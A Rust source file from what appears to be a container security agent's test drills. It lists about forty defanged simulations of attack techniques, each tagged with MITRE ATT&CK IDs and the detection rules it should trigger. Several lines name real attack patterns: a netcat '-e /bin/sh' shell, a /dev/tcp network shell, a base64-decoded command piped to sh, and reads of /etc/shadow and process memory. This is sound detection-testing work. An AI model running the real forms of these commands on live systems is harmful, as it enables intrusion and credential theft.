//! Benign versions of real attacks.
//!
//! Each does what the attack does as the kernel sees it, and no harm: files that are written
//! are the container's own and are removed, programs with names of tools are the shell under
//! another name, addresses are of documentation or of the container itself. A script ends
//! with 0 when the attack came through, with 77 when the image lacks what it takes, and with
//! anything else when it was stopped.

/// A scenario.
#[derive(Debug)]
pub(crate) struct Scenario {
    /// Its name.
    pub(crate) id: &'static str,
    /// What is done, for people.
    pub(crate) title: &'static str,
    /// Technique of MITRE ATT&CK.
    pub(crate) technique: &'static str,
    /// Built-in rules of which one must see it.
    pub(crate) rules: &'static [&'static str],
    /// Whether the policy `restricted` must stop it.
    pub(crate) restricted_stops: bool,
    /// What is run in the container by /bin/sh.
    pub(crate) script: &'static str,
}

/// Runs before each script. `as NAME ARGUMENTS` starts the shell under another name; only that
/// it cannot be started counts as stopped. `write FILE` writes a file and removes it if it was
/// not there. `program NAME ARGUMENTS` starts a program by its path: BusyBox's shell does many
/// by itself, and no program of that name is then seen.
pub(crate) const PRELUDE: &str = r#"
as() {
    n=$1; shift
    cp /bin/sh "/tmp/$n" || return 1
    "/tmp/$n" "$@" >/dev/null 2>&1 </dev/null
    r=$?
    rm -f "/tmp/$n"
    [ $r -ne 126 ]
}
write() {
    [ -d "${1%/*}" ] || mkdir -p "${1%/*}" || return 1
    if [ -e "$1" ]; then : >>"$1"; else : >"$1" && { rm -f "$1"; :; }; fi
}
need() { command -v "$1" >/dev/null || exit 77; }
program() {
    n=$1; shift
    for d in /usr/bin /bin; do
        if [ -x "$d/$n" ]; then "$d/$n" "$@"; return; fi
    done
    exit 77
}
"#;

/// Rules about a program that is not part of the image, started or tried. Of the rules that match
/// one event the most severe is told, so a tool that had to be written first is theirs to see.
const DROPPED: [&str; 2] = ["Dropped program executed", "Dropped program execution attempted"];

/// One that `restricted` must stop: its root file system is read-only, there is no place from
/// which a written program can be started, and no setuid bit can be set.
const fn stoppable(
    id: &'static str,
    title: &'static str,
    technique: &'static str,
    rules: &'static [&'static str],
    script: &'static str,
) -> Scenario {
    Scenario { id, title, technique, rules, restricted_stops: true, script }
}

const fn other(
    id: &'static str,
    title: &'static str,
    technique: &'static str,
    rules: &'static [&'static str],
    script: &'static str,
) -> Scenario {
    Scenario { id, title, technique, rules, restricted_stops: false, script }
}

/// Every scenario.
#[rustfmt::skip] // a table
pub(crate) const SCENARIOS: &[Scenario] = &[
    stoppable("dropped-program", "a program is written and started", "T1105", &DROPPED, "as drill-dropped -c :"),
    stoppable("crypto-miner", "a miner of crypto currency is started", "T1496", &["Crypto miner", DROPPED[0], DROPPED[1]], "as xmrig -c :"),
    stoppable("attack-tool", "a script that looks for ways to root is started", "T1588.002", &["Attack tool started", DROPPED[0], DROPPED[1]], "as linpeas.sh -c :"),
    stoppable("netcat-shell", "netcat is told to start a shell", "T1059.004", &["Network tool given a program to run", DROPPED[0], DROPPED[1]], "as nc 127.0.0.1 1 -e /bin/sh"),
    stoppable("cluster-client", "a client of the cluster is started", "T1609", &["Client of an engine or cluster started", DROPPED[0], DROPPED[1]], "as kubectl get pods"),
    stoppable("tunnel", "a tunnel is dug", "T1572", &["Tunnel or anonymity tool started", DROPPED[0], DROPPED[1]], "as chisel client 192.0.2.1"),
    stoppable("package-manager", "a package is installed", "T1072", &["Package manager started in a container", DROPPED[0], DROPPED[1]], "as apt-get install nothing"),
    stoppable("network-scanner", "a scanner of networks is started", "T1046", &["Network tool started in a container", DROPPED[0], DROPPED[1]], "as nmap 127.0.0.1"),
    stoppable("hidden-program", "a program with a hidden name is started", "T1564.001", &["Hidden program executed", DROPPED[0], DROPPED[1]], "as .drill-hidden -c :"),
    stoppable("memory-dump", "a process's memory is dumped", "T1003", &["Memory of a process dumped", DROPPED[0], DROPPED[1]], "as gcore 1"),
    stoppable("file-system-debugger", "a file system debugger is started on a disk", "T1006", &["File system debugger started", DROPPED[0], DROPPED[1]], "as debugfs /dev/canary"),
    stoppable("new-user", "a user is added by the tools for it", "T1136.001", &["User or group management started", DROPPED[0], DROPPED[1]], "as useradd drill"),
    stoppable("ssh-server", "an SSH server is started", "T1021.004", &["SSH server started in a container", DROPPED[0], DROPPED[1]], "as sshd -D"),
    stoppable("defences-off", "the audit daemon is told to stop", "T1562.001", &["Defences switched off", DROPPED[0], DROPPED[1]], "as systemctl stop auditd"),
    stoppable("immutable-file", "a file is made immutable", "T1222.002", &["File made immutable", DROPPED[0], DROPPED[1]], "as chattr +i /tmp/drill"),
    other("release-agent", "the release agent of a control group is written", "T1611", &["Escape through a kernel helper"], "write /tmp/release_agent"),
    stoppable("kernel-helper", "the kernel's core pattern is opened for writing", "T1611",
        &["Escape through a kernel helper", "Escape through a kernel helper attempted"], ": 3>>/proc/sys/kernel/core_pattern"),
    stoppable("linker-preload", "the dynamic linker is told to load a library", "T1574.006", &["Dynamic linker hijacked"], "write /etc/ld.so.preload"),
    stoppable("account-file", "the account file is opened for writing", "T1098", &["Account file written"], "write /etc/passwd"),
    stoppable("scheduled-job", "a scheduled job is written", "T1053.003", &["Scheduled job or service written"], "write /etc/cron.d/drill"),
    stoppable("login-configuration", "the configuration of logins is changed", "T1556.003", &["Login configuration written"], "write /etc/pam.d/drill"),
    stoppable("system-program", "a program of the system is written", "T1554", &["Program of the system written"], "write /bin/drill-written"),
    stoppable("cluster-manifest", "a manifest of the cluster's node is written", "T1610", &["Cluster node file written"], "write /etc/kubernetes/manifests/drill.yaml"),
    stoppable("login-key", "a key for logins is planted", "T1098.004", &["Login key or shell start file written"], "write /root/.ssh/authorized_keys"),
    other("shadow-read", "the file of password hashes is read", "T1003.008",
        &["Sensitive file read", "Sensitive file read attempted"], "cat /etc/shadow >/dev/null"),
    other("environment-read", "another process's environment is read", "T1552", &["Environment of another process read"], "cat /proc/1/environ >/dev/null"),
    other("process-memory", "another process's memory is opened", "T1055", &["Memory of another process opened"], ": </proc/1/mem"),
    other("private-key", "a private key is read", "T1552.004", &["Private key or credential file read"],
        "mkdir -p /tmp/.ssh && : >/tmp/.ssh/id_rsa && cat /tmp/.ssh/id_rsa; r=$?; rm -rf /tmp/.ssh; [ $r -eq 0 ]"),
    other("application-secrets", "an application's secrets are read", "T1552.001", &["Secrets of an application read"],
        ": >/tmp/.env && program cat /tmp/.env; r=$?; rm -f /tmp/.env; [ $r -eq 0 ]"),
    other("network-shell", "a shell is told to speak with the network", "T1059.004", &["Shell told to use a network device"], "/bin/sh -c ': /dev/tcp/192.0.2.1/1'"),
    other("encoded-command", "an encoded command is run", "T1140", &["Encoded command run"], "/bin/sh -c ': echo aWQ= | : base64 -d | sh'; :"),
    other("no-history", "a shell is kept from writing its history", "T1070.003", &["Shell history kept from being written"], "HISTFILE=/dev/null /bin/sh -c :"),
    other("preloaded-library", "a program is started with a library before all others", "T1574.006", &["Program started with a preloaded library"],
        "LD_PRELOAD=/tmp/libdrill.so /bin/sh -c :"),
    stoppable("setuid", "the setuid bit is set", "T1548.001", &["Setuid bit set"],
        "need chmod; : >/tmp/drill-suid && chmod 4755 /tmp/drill-suid; r=$?; rm -f /tmp/drill-suid; [ $r -eq 0 ]"),
    other("sensitive-link", "a link to a sensitive file is made", "T1222.002", &["Link to a sensitive file made"],
        "need ln; ln -s /etc/shadow /tmp/drill-link; r=$?; rm -f /tmp/drill-link; [ $r -eq 0 ]"),
    other("key-search", "keys are searched for", "T1552.001", &["Search for keys or passwords"], "program find /tmp -name id_rsa"),
    other("old-timestamps", "timestamps are set by hand", "T1070.006", &["Timestamps set by hand"],
        "need touch; : >/tmp/drill-old; program touch -d '2020-01-01 00:00' /tmp/drill-old; r=$?; rm -f /tmp/drill-old; [ $r -eq 0 ]"),
    other("ransom-note", "a ransom note is written", "T1486", &["Ransom note written"], "write /tmp/HOW_TO_DECRYPT.txt"),
    other("runtime-overwritten", "a file with the name of a runtime is written", "T1611", &["Container runtime overwritten"], "write /tmp/runc"),
    other("kernel-symbols", "the kernel's symbols are read", "T1082", &["Kernel information read"], "need head; head -c 64 /proc/kallsyms >/dev/null"),
];

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn every_scenario_is_about_a_rule_that_there_is() {
        let texts: String = palisade_agent::BUILTIN_RULES.iter().map(|(_, text)| *text).collect();
        assert!(SCENARIOS.len() >= 25);
        let ids: BTreeSet<&str> = SCENARIOS.iter().map(|scenario| scenario.id).collect();
        assert_eq!(ids.len(), SCENARIOS.len(), "names are told apart");
        for scenario in SCENARIOS {
            for rule in scenario.rules {
                assert!(texts.contains(&format!("- rule: {rule}\n")), "{}: {rule}", scenario.id);
            }
            let digits = scenario.technique.strip_prefix('T').unwrap();
            assert!(digits.split('.').all(|part| part.len() >= 3 && part.parse::<u32>().is_ok()));
        }
    }
}
